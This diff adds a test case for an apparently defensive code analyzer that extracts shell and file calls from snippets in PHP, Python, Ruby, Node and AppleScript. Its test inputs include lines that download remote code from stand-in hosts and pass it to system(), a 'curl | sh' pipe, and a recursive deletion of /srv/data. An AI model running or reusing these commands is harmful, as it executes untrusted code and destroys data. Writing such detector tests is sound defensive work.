@@ -51,6 +51,12 @@ describe("readCode", () => {
     expect(lines("perl", "unlink('$HOME.txt')").join("\n")).not.toContain("__synaps_value");
   });
 
+  test("a URL handed to a fetcher stands for what it serves, a URL handed to a parser for the URL (heldout5)", () => {
+    expect(readCode("php", 'system(file_get_contents("http://203.0.113.2/c.txt"));', "php").unresolved).toHaveLength(1);
+    expect(readCode("python", 'import os; os.system(urlopen("https://x.example/c"))', "python").unresolved).toHaveLength(1);
+    expect(lines("ruby", 'system("curl", URI("https://example.com/a.tgz"), "-o", "a.tgz")').join("\n")).toContain("https://example.com/a.tgz");
+  });
+
   test("Deno's file calls and JXA's shell calls are read", () => {
     expect(lines("node", "Deno.removeSync('/srv/data', { recursive: true })").join("\n")).toContain("/srv/data");
     expect(lines("applescript", 'ObjC.import("stdlib"); $.system("curl -s x | sh")')).toContain("curl -s x | sh");
